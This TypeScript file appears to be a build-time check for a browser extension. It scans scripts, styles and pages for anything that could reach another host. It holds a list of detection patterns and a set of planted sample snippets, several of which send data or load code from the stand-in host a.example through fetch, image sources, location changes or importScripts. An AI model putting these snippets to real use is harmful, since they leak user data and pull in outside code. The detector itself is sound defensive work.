/** Everything in scripts, styles and pages, minified or not, that can make a browser request something from another host. */

const remote = String.raw`(?:https?:|wss?:)?\/\/`;
const quote = '["\'`]';
const rule = (source: string, flags = ''): RegExp => new RegExp(source, flags);

type Kind = 'script' | 'style' | 'page';
const forbidden: Readonly<Record<Kind, readonly (readonly [name: string, pattern: RegExp])[]>> = {
  script: [
    ['fetch', rule(String.raw`\bfetch(?:Later)?\s*\(|\.fetch\b|${quote}fetch${quote}|\bfetch\s*[:,}]`)],
    ['a connection', /\b(?:XMLHttpRequest|WebSocket|WebSocketStream|EventSource|WebTransport|RTCPeerConnection|sendBeacon)\b/],
    ['code from elsewhere', rule(String.raw`\bimportScripts\b|\bimport\s*\(\s*${quote}${remote}|\bfrom\s*${quote}${remote}|\bimport\s*${quote}${remote}|serviceWorker\s*\.\s*register|\baddModule\s*\(`)],
    ['code from text', /\beval\s*\(|\bnew\s+Function\b|\bFunction\s*\(\s*["'`]/],
    ['a worker from elsewhere', rule(String.raw`\b(?:Shared)?Worker\s*\(\s*(?:new URL\s*\(\s*)?${quote}?${remote}`)],
    ['an image, a sound, a font', /\bnew\s+(?:Image|Audio|FontFace)\b/],
    ['something loaded', rule(String.raw`\b(?:src|srcset|poster|ping|action|formAction|formaction|data)${quote}?\s*[=:,]\s*${quote}${remote}`)],
    ['a style or font', rule(String.raw`url\(\s*\\?${quote}?${remote}|@import\s`)],
    ['something fetched ahead', /["'`](?:prefetch|preconnect|dns-prefetch|preload|prerender|modulepreload)["'`]/],
    ['a link that is loaded', rule(String.raw`rel${quote}?\s*[=:,]\s*${quote}(?:stylesheet|icon|manifest)${quote}[^;]{0,80}${remote}|href${quote}?\s*[=:,]\s*${quote}${remote}[^;]{0,80}${quote}stylesheet`)],
    ['a page opened', rule(String.raw`\blocation(?:\.href)?\s*=(?!=)|\blocation\.(?:assign|replace)\s*\(|\bwindow\.open\s*\(|\burl\s*:\s*${quote}${remote}`)],
    ['a page after farewell', /\bsetUninstallURL\s*\(/],
    ['another store than the device', /\bstorage\s*\.\s*sync\b|\b(?:connectNative|sendNativeMessage)\s*\(/],
  ],
  style: [
    ['an address', rule(String.raw`url\(\s*${quote}?${remote}`)],
    ['another style', /@import\b/],
    ['an image set', rule(String.raw`image-set\([^)]*${remote}`)],
  ],
  page: [
    ['something loaded', rule(String.raw`\b(?:src|srcset|href|action|poster|data|ping|formaction)\s*=\s*${quote}?${remote}`, 'i')],
    // Importing our own scripts is allowed; importing anything else is a request.
    ['something fetched ahead', /rel\s*=\s*["']?(?:prefetch|preconnect|dns-prefetch|prerender)\b/i],
    ['another page inside', /<(?:iframe|object|embed|frame|base)\b/i],
    ['a page that goes elsewhere', /http-equiv\s*=\s*["']?refresh/i],
    ['a script in the page', /<script\b(?![^>]*\bsrc=)/i],
  ],
};

const kindOf = (file: string): Kind | undefined => (/\.(?:js|mjs|ts|tsx)$/.test(file) ? 'script' : file.endsWith('.css') ? 'style' : /\.(?:html|svg)$/.test(file) ? 'page' : undefined);

/** The bundler's code that loads the styles of our own chunks. It only gets paths within the package. */
const ownLoader = /\.supports\(`modulepreload`\)\?`modulepreload`:`preload`/g;

/** Imports of our own style sheets. The bundler inlines them, so the package contains none. */
const ownSheets = /@import '\.{1,2}\/[\w/.-]+\.css'/g;

/** Comments may name such APIs; they are not shipped. */
const uncommented = (code: string): string => code.replaceAll(/^\s*\/?\*.*$|^\s*\/\/.*$/gm, '');

/** Everything in a file that could reach the network, described in words. */
export function networkIn(file: string, text: string): readonly string[] {
  const kind = kindOf(file);
  if (!kind) return [];
  const code = (/\.tsx?$/.test(file) ? uncommented(text) : /^src\/.*css$/.test(file) ? text.replaceAll(ownSheets, '') : text).replaceAll(ownLoader, '');
  return forbidden[kind].flatMap(([name, pattern]) => {
    const found = pattern.exec(code);
    return found ? [`${name} in ${file}: ${code.slice(Math.max(0, found.index - 20), found.index + 60)}`] : [];
  });
}

/** Ways to reach the network, as they look in a bundle; each must be found. */
export const planted: Readonly<Record<Kind, readonly string[]>> = {
  script: [
    'fetch("https://a.example/?"+e)', 'await fetch(t,{method:"POST",body:e})', 'globalThis.fetch(t)', 'self["fetch"](t)', 'const{fetch:n}=window;n(t)', 'fetchLater(t)',
    'new XMLHttpRequest', 'Reflect.construct(XMLHttpRequest,[])', 'new WebSocket("wss://a.example")', 'new EventSource(t)', 'new WebTransport(t)', 'new RTCPeerConnection({iceServers:[]})', 'navigator.sendBeacon(t,e)',
    'importScripts("https://a.example/a.js")', 'import("https://a.example/a.js")', 'import"https://a.example/a.js";', 'import{a}from"//a.example/a.js";', 'navigator.serviceWorker.register("/a.js")', 'CSS.paintWorklet.addModule(t)',
    'eval(e)', 'new Function(e)', 'Function("return 1")()', 'new Worker("https://a.example/a.js")', 'new SharedWorker(new URL("https://a.example/a.js"))',
    'new Image().src=t', 'new Audio(t).play()', 'new FontFace("a","url(a)")', 'i.src="https://a.example/a.gif?"+e', 'i.src=`//a.example/${e}`', 'i.setAttribute("src","https://a.example")', 'h("img",{src:"https://a.example/a.gif"})', 'h("a",{ping:"https://a.example",href:"#"})', 'f.action="https://a.example/form"',
    'i.style.background="url(https://a.example/a.png)"', 's.textContent=`@import "https://a.example/a.css"`', 'l.rel="prefetch"', 'h("link",{rel:"preconnect",href:t})', 'h("link",{rel:"stylesheet",href:"https://a.example/a.css"})',
    'location="https://a.example/?"+e', 'location.href=t', 'location.assign(t)', 'window.open("https://a.example")', 'r.tabs.create({url:"https://a.example/?"+e})', 'chrome.runtime.setUninstallURL("https://a.example")', 'chrome.storage.sync.set({e})', 'chrome.runtime.connectNative("a")',
  ],
  style: ['a{background:url(https://a.example/a.png)}', 'a{background:url("//a.example/a.png")}', '@font-face{font-family:a;src:url(https://a.example/a.woff2)}', '@import "https://a.example/a.css";', '@import url(a.css);', 'a{background:image-set("https://a.example/a.png" 1x)}'],
  page: ['<script src="https://a.example/a.js"></script>', '<img src=//a.example/a.gif>', '<link rel="stylesheet" href="https://a.example/a.css">', '<link rel="preconnect" href="//a.example">', '<link rel=dns-prefetch href=//a.example>', '<iframe src="a.html"></iframe>', '<meta http-equiv="refresh" content="0;url=https://a.example">', '<base href="https://a.example/">', '<form action="https://a.example">', '<script>a()</script>'],
};

export const plantedIn = (file: string): readonly string[] => planted[kindOf(file) ?? 'page'];
